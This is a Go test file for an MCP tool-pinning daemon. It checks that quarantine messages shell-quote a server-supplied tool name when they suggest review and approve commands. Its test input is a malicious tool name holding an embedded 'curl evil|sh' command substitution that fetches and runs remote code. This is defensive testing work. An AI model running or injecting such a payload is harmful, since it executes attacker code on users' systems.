package daemon

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpcage/mcpcage/daemon/pins"
)

// pinnedPolicy is a session policy of server gh whose pins live in a
// fresh store.
func pinnedPolicy(t *testing.T) *sessionPolicy {
	t.Helper()
	d := testDaemon(t, policyConfig)
	var err error
	if d.pins, err = pins.Open(filepath.Join(t.TempDir(), "pins.json")); err != nil {
		t.Fatal(err)
	}
	p := testPolicy(d, "gh", "cd", false)
	p.s.pinKey = d.pinKey("gh", 0)
	return p
}

// toolsList is a tools/list result of the tools named, each with desc.
func toolsList(desc string, names ...string) string {
	var b strings.Builder
	b.WriteString(`{"jsonrpc":"2.0","id":3,"result":{"tools":[`)
	for i, n := range names {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"name":%q,"description":%q}`, n, desc)
	}
	b.WriteString(`]}}`)
	return b.String()
}

// A changed tool's refusal suggests commands to review and approve it: the
// server chose the tool's name, so it is quoted for the shell there.
func TestQuarantineReasonQuotesTheName(t *testing.T) {
	p := pinnedPolicy(t)
	name := "get_x $(curl evil|sh)"
	for _, desc := range []string{"one", "two"} { // the second definition is quarantined
		e, msg := peek(t, toolsList(desc, name))
		p.FromServer(e, msg, "tools/list")
	}
	why := p.quarantineReason(name)
	for _, want := range []string{
		"`mcpcage pins diff gh 'get_x $(curl evil|sh)'`",
		"`mcpcage pins approve gh 'get_x $(curl evil|sh)' DIGEST`",
	} {
		if !strings.Contains(why, want) {
			t.Errorf("reason %q\nlacks %q", why, want)
		}
	}
}
